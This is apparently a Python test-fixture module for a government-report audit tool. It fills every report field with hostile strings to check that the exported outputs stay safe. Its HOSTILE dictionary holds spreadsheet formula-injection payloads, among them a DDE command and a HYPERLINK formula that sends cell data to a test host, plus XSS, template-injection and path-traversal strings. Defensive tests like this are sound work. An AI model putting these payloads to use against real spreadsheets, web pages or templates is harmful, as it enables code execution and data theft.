"""Text that tries to be more than text, and an audit in which everything is made of it."""

from __future__ import annotations

from collections import Counter
from dataclasses import replace
from datetime import UTC, datetime
from hashlib import sha256
from typing import Any

from followup.audit.agreeing import Agreement, Pair
from followup.audit.anchoring import Near
from followup.audit.calibrating import Calibration, Scores
from followup.audit.deciding import History
from followup.audit.orphaned import Orphan
from followup.audit.returned import Change, Refused, Returned
from followup.audit.sampling import Item, Sampled, SampleOf
from followup.audit.searching import Hit, Search, Where
from followup.audit.yearly import Entry as YearEntry
from followup.audit.yearly import YearLedger
from followup.chains import Chain, Deed, Entry, Figure, Recurrence, Shortcoming
from followup.evaluation import Case, Control, Evaluation
from followup.evaluation import Scores as Measures
from followup.evaluation.labels import Gold
from followup.judging import JudgeOptions
from followup.ledger import StoredReport, StoredRun
from followup.lexicon.concepts import Concept, Graph, Seen
from followup.model import (
    Achievement,
    Assessment,
    Audit,
    Commitment,
    Comparator,
    Document,
    Flags,
    Found,
    Government,
    Grade,
    Identity,
    Kind,
    Link,
    Note,
    Problem,
    Quantity,
    Reason,
    Report,
    Role,
    Section,
    Span,
    Verdict,
    commitment_id,
)
from followup.model.assignments import Assignment, Duty, Source
from followup.model.progress import Progress
from followup.model.reviews import (
    Anchor,
    CheckIn,
    Decision,
    MachineVerdict,
    Passage,
    Profile,
    Review,
    Status,
    Withdrawal,
)
from followup.model.samples import Drawn, Sample, Stratum
from followup.reporting import GapReport, Subject, gap_report
from followup.reporting.quoting import one_line
from followup.reporting.views.bodies import Feedback, bodies_view
from followup.reporting.views.brief import Acknowledged, Brief, Cause, Chased, brief
from followup.reporting.views.by_kind import ByKind
from followup.reporting.views.calibration import CalibrationView, ProfilesView
from followup.reporting.views.comparison import (
    Comparison,
    ComparisonOptions,
    Party,
    Share,
    TopicRow,
)
from followup.reporting.views.concepts import Conceived
from followup.reporting.views.everything import AuditedLine, Everything
from followup.reporting.views.explanation import explanation
from followup.reporting.views.extraction import extraction
from followup.reporting.views.listing import (
    ChangesView,
    Differences,
    ImportLine,
    Listing,
    ReportLine,
    RunLine,
    Said,
)
from followup.reporting.views.overview import GovernmentLine, Overview
from followup.reporting.views.record import HistoryView, OrphansView
from followup.reporting.views.returned import ReturnView
from followup.reporting.views.scorecard import Scorecard
from followup.reporting.views.targets import Target
from followup.reporting.views.totals import Tally
from followup.reporting.views.trend import Part, TrendOptions, TrendView, YearLine

WHEN = datetime(2026, 3, 4, 9, 0, tzinfo=UTC)
MARK = "标记"
"""Stands in every hostile text, so that the text can be found again in an output."""
HOSTILE = {
    "formula": '=HYPERLINK("http://a.test/?"&A1,"标记")',
    "plus": "+1+cmd|' /C calc'!A0标记",
    "minus": "-2+3标记",
    "at": "@SUM(1+1)*标记",
    "tab": "\t=1+1标记",
    "return": "\r=1+1标记",
    "full width": "＝1+1标记",
    "number": "1234567890123标记",
    "script": "<script>alert('标记')</script>",
    "image": "<img src=x onerror=alert(1)>标记",
    "end of script": "</script></style></textarea><!--标记-->",
    "attribute": '" onmouseover="alert(1)" x=\'标记',
    "entity": "&lt;b&gt;标记&#60;i&#62;&amp;",
    "cdata": "]]><w:p/><?php 标记 ?>",
    "markdown link": "[标记](javascript:alert(1)) ![x](http://a.test/x.png) <http://b.test>",
    "reference": '[标记]: http://a.test "x"',
    "auto link": "http://a.test/标记 www.a.test a@a.test",
    "table": "a | 标记 | b\\| c",
    "heading": "# 标记\n## 二\n===\n---",
    "list": "- 标记\n1. b\n> c",
    "code": "```\n标记\n```\n    x `y`",
    "emphasis": "**标记** __b__ ~~c~~ $x^2$",
    "expression": "{{ 7*7 }}标记{{ config }}",
    "statement": "{% for x in range(9) %}标记{% endfor %}{# 标记 #}",
    "mark": "【落实情况】标记{{ chapter }}{{ fulfilled }}",
    "right to left": "\u202e标记\u202c\u2066x\u2069",
    "zero width": "标\u200b\u200d\ufeff记",
    "control": "标\x00记\x07\x1b[31m\x1b]8;;http://a.test\x07\x7f\x85",
    "surrogate": "标记\ud800\udfff",
    "not a character": "标记\ufffe\uffff\U0001fffe",
    "line separators": "标记\u2028x\u2029y\x0bz\x0c",
    "combining": "标记" + "\u0301" * 80,
    "astral": "标记𠮷😀",
    "very long": "标记" + "极" * 40_000,
    "up": "../../../etc/标记",
    "windows": "C:\\..\\CON:标记|?*",
}


def audit_of(text: str) -> Audit:
    """An audit whose reports, headings, names, reasons and passages all are ``text``."""
    body = f"{text}\n{text}"
    span = Span(0, len(text))
    digest = sha256(body.encode(errors="replace")).hexdigest()
    document = Document(digest, "text/plain", f"{text[:300]}.txt", body, encoding="utf-8")
    identity = Identity(
        government=Found(Government(text, "county", known=False), "title", span),
        reviewed_year=Found(2024, "title"),
        planned_year=Found(2025, "title"),
        title=Found(text, "title", span),
    )
    commitments = tuple(
        Commitment(
            commitment_id(digest, span, kind),
            span,
            text,
            kind,
            (text, text),
            topic=text[:40],
            owner=text,
            enumeration=text,
        )
        for kind in Kind
    )
    link = Link(span, text, 0.9, Grade.STRONG, {"wording": 0.9}, Role.RETROSPECT, (text,))
    reasons = (Reason("figure_short", {"target": text, "said": text}), Reason("x", {"a": text}))
    assessments = tuple(
        Assessment(
            commitment.id,
            verdict,
            0.5,
            "figure_short",
            reasons,
            Flags(carried_over=True),
            evidence=(link,) if verdict is not Verdict.MISSING else (),
            candidates=(link,),
        )
        for commitment, verdict in zip(commitments, Verdict, strict=True)
    )
    sections = (Section(Role.PLAN, text, Span(0, len(body)), span),)
    plan = Report(document, identity, sections, commitments, notes=(Note("x", {"what": text}),))
    outcome = replace(plan, commitments=(), notes=())
    return Audit(plan, outcome, assessments, settings={"version": text, text[:50]: text})


def report_of(text: str) -> GapReport:
    """Its gap report: a person, whose name and note are ``text``, decided the first commitment."""
    first = audit_of(text).assessments[0].commitment_id

    def decide(assessment: Assessment) -> Decision:
        if assessment.commitment_id != first:
            return Decision(assessment.verdict)
        return Decision(Verdict.PARTIAL, "person", text, WHEN, text)

    return gap_report(audit_of(text), run_id=1, decide=decide)


def views_of(text: str) -> dict[Subject, Any]:
    """A view of every subject of the registry, with ``text`` wherever a person or a report may
    have written something."""
    audit = audit_of(text)
    made = audit.plan.commitments[0]
    plan = StoredReport(
        *(1, audit.plan.document.sha256, text, text, text, "county", "", 2024, 2025, "law", text),
        *(3, 0, 0, WHEN),
    )
    anchor = Anchor(made.id, plan.sha256, text, "", 2025, "law", made.span, text, made.kind)
    said = MachineVerdict(Verdict.MISSING, 0.5, "figure_short", 1)
    passage = Passage(plan.sha256, made.span, text)
    review = Review(anchor, text, WHEN, Verdict.PARTIAL, text, (passage,), (passage,), said, id=1)
    other = Review(anchor, text, WHEN, Verdict.MISSING, text, id=2)
    checkin = CheckIn(anchor, text, WHEN, WHEN.date(), Status.BEHIND, text, text, text)
    reviews, checkins = (review, other), (checkin,)
    decision = Decision(Verdict.PARTIAL, "person", text, WHEN, text)
    day = WHEN.date()
    duty = Duty(text, (text, "省司法厅"), Source.PROPOSED, day, Source.SET, text)
    taken_back = Withdrawal("assignment", 1, text, WHEN, text, id=1)
    assignment = Assignment(
        *(anchor, text, WHEN, text, (text,), day.isoformat(), text, text, taken_back), id=1
    )
    year = YearEntry(
        *(1, made, duty, WHEN.date()),
        overdue=True,
        unconfirmed=False,
        closed=False,
        progress=Progress((checkin, replace(checkin, told_by="省厅", status=Status.DONE, id=2))),
        reviews=reviews,
        decision=decision,
        machine=Verdict.MISSING,
    )
    orphan = Orphan(anchor, reviews, checkins, (assignment,), plan, (Near(made, 0.5),))
    change = Change(2, made, Verdict.MISSING, Verdict.PARTIAL, text, text, (review,))
    ledger = YearLedger(plan, audit.plan, None, day, (year,))
    history = History(audit.plan, made, reviews, checkins, (assignment,))
    details = (("cell", "B2"), ("text", text), ("name", text), ("key", text))
    refused = tuple(Refused(code, 3, details, WHEN) for code in ("word", "unknown"))
    scores = Scores(2, 1, 0.5, None, 0, {(Verdict.PARTIAL, Verdict.MISSING): 1})
    options = JudgeOptions()
    calibration = Calibration(
        *({Verdict.PARTIAL: 2}, 1, 0, text, scores, scores, scores, 1, 0, True, options, options)
    )
    profile = Profile(text, {}, {"reviews": 2, "lexicon": text}, text, WHEN, 1)
    differences = Differences(1, (text,), (text,), ((text, text),))
    imported = (
        ImportLine(text, "new", text, 2024, 2025, 3),
        ImportLine(text, "version", text, 2024, 2025, 3, differences=differences),
        ImportLine(text, "unread", why=one_line(text)),
    )
    sample = Sample(
        *(1, plan.sha256, 7, 40, (Stratum(Verdict.PARTIAL, True, 1, {}),)),
        *((Drawn(made.id, 0, {}),), text, WHEN),
    )
    sampled = Sampled(sample, (Item(made, 1, 0, Verdict.PARTIAL),), 2, None, None)
    run = StoredRun(1, plan, plan, WHEN, {}, {})
    line = ReportLine("1", text, 2024, 2025, "law", text, text, 3, WHEN)
    chosen = Said(text, WHEN, text)
    return {
        Subject.CONCEPTS: conceived_of(text),
        Subject.AUDIT: report_of(text),
        Subject.ANNEXES: report_of(text),
        Subject.BRIEF: brief_of(text),
        Subject.EXPORT: (report_of(text),),
        Subject.YEAR: ledger,
        Subject.FEEDBACK: Feedback(ledger, text),
        Subject.BODIES: bodies_view(ledger),
        Subject.TREND: trend_of(text),
        Subject.COMPARISON: comparison_of(text),
        Subject.OVERVIEW: overview_of(text),
        Subject.EXTRACTION: extraction(replace(audit.plan, **passages_of(text)), details=True),
        Subject.EXPLANATION: explanation(audit, made.id, parts_of=lambda _: {"wording": 1.0}),
        Subject.LIST: (
            Listing(
                "reports",
                [
                    replace(line, used=chosen, corrected=chosen, corrections={"government": text}),
                    replace(line, state="out", forgotten=chosen),
                ],
            ),
            Listing(
                "runs",
                [RunLine("1", text, 2025, Tally(1, 1, 1), WHEN, text, text, forgotten=chosen)],
            ),
        ),
        Subject.IMPORT: imported,
        Subject.EVERYTHING: Everything(
            (
                AuditedLine(text, 2025, "law", "judged", Tally(1, 1, 1), "1"),
                AuditedLine(text, 2025, "", "failed", why=text),
            )
        ),
        Subject.CHANGES: ChangesView(line, line, differences),
        Subject.SCORECARD: scorecard_of(text),
        Subject.CALIBRATION: CalibrationView(calibration, profile),
        Subject.PROFILES: ProfilesView((profile,), as_it_is),
        Subject.HISTORY: HistoryView(history, as_it_is),
        Subject.ORPHANS: OrphansView((orphan,), as_it_is),
        Subject.AGREEMENT: Agreement(plan, (text, text), (Pair(made, review, other),)),
        Subject.SEARCH: Search(
            (text,),
            Where.ALL,
            (
                Hit(plan, 2025, text, (text,), made.id, 1, made.kind, 1, decision, answers=(text,)),
                Hit(plan, 2024, text, (text,)),
            ),
            3,
            2,
        ),
        Subject.SAMPLE: SampleOf(run, sampled, fresh=True),
        Subject.RETURN: ReturnView(Returned((change,), refused, 0, 2), text, as_it_is),
    }


def brief_of(text: str) -> Brief:
    """A brief of it, with a target, a thing to chase and a problem that all are ``text``."""
    made = brief(report_of(text))
    row = report_of(text).rows[0]
    figure = Quantity(Span(0, 1), text, 2.0, text, Comparator.EXACT, indicator=text)
    target = Target(row, text, figure, figure, 1.0, True, False)
    chased = tuple(
        Chased(task, task.rows[0], cause, target, text)
        for task in made.report.tasks[:1]
        for cause in Cause
    )
    return replace(
        made,
        targets=(target,),
        more_targets={Verdict.MISSING: 2},
        more_as_a_whole=1,
        chased=chased,
        problems=(Acknowledged(text, (row,)),),
    )


def conceived_of(text: str) -> Conceived:
    """A concept of an office's own table, named and worded by ``text``."""
    own = Concept(text, "", (), (text,))
    return Conceived(text, Graph([own]), (Seen(text, Span(0, len(text)), text),), ())


def as_it_is(moment: datetime) -> datetime:
    return moment


def passages_of(text: str) -> dict[str, Any]:
    """What a report looked back on and admits, made of ``text``."""
    span = Span(0, len(text))
    return {
        "achievements": (Achievement(span, text, span, (text,)),),
        "problems": (Problem(span, text, (text,)),),
    }


def entries_of(text: str) -> tuple[Entry, Entry]:
    """The same promise in two years."""
    one = Entry(
        *("a" * 12, 2024, text, Kind.QUANTIFIED, "", Verdict.PARTIAL, True),
        reported=text,
        figures=(Figure(text, text, text, "figure_is_total"), Figure("", text)),
    )
    return one, replace(one, id="b" * 12, year=2025)


def counts_of(number: int) -> ByKind:
    """So many of each kind with each verdict."""
    tally = Tally(number, number, number, number)
    return ByKind(dict.fromkeys(Kind, tally), tally)


def trend_of(text: str) -> TrendView:
    entries = entries_of(text)
    counts, figures = counts_of(1), Part(entries, 2)
    line = YearLine(2024, counts, 2, True, 1, 1, 1, 1, 1, 1, False, text, text, figures)
    shortcomings = tuple(Shortcoming(year, text) for year in (2024, 2025))
    return TrendView(
        government=text,
        genre="law",
        years=(line, replace(line, year=2025, counts=None)),
        chains=Part((Chain(entries),), 1),
        lengths={2: 1},
        dropped=Part(entries, 2),
        dropped_kinds=Counter({Kind.DELIVERABLE: 2}),
        recurring=Part((Recurrence(shortcomings),), 1),
        unpromised=Part((Deed(2024, Span(0, 1), text),), 1),
        notes=(Note("x", {"what": text}),),
        options=TrendOptions(),
        made_at=WHEN,
        short_ids={entry.id: entry.id for entry in entries},
    )


def comparison_of(text: str) -> Comparison:
    entries = entries_of(text)
    counts, listed, kinds = counts_of(1), Part(entries, 2), Counter({Kind.DELIVERABLE: 2})
    party = Party(
        *(text, "county", "law", counts, kinds, 1, 1, text, text, listed, listed, kinds, True)
    )
    share = Share(counts, entries)
    return Comparison(
        year=2025,
        parties=(party, party),
        topics=(TopicRow("", (share, share)),),
        hidden=0,
        made_at=WHEN,
        short_ids={entry.id: entry.id for entry in entries},
        options=ComparisonOptions(),
    )


def overview_of(text: str) -> Overview:
    kinds = Counter({Kind.DELIVERABLE: 2})
    party = GovernmentLine(text, "110000", "county", "law", counts_of(1), kinds, 1, 1, text, text)
    return Overview(2025, (party, party), 1, WHEN, ComparisonOptions())


def scorecard_of(text: str) -> Scorecard:
    """Of a label whose file, government and quotes all are ``text``."""
    audit = audit_of(text)
    scores = Measures(1, 0.5, 0.5, 0.5, 0.5, confusion=(("partial", "missing", 1),))
    gold = Gold(Span(0, 1), text, Kind.DELIVERABLE, Verdict.MISSING, (), frozenset())
    case = Case(text, text, text, gold, audit.plan.commitments[0], audit.assessments[0], 1)
    by_kind = {"deliverable": scores}
    evaluation = Evaluation(
        scores, by_kind, {text: scores}, {text: scores}, {text: scores}, (case,), ()
    )
    return Scorecard(evaluation, Control(1, 0.1, 0.2))
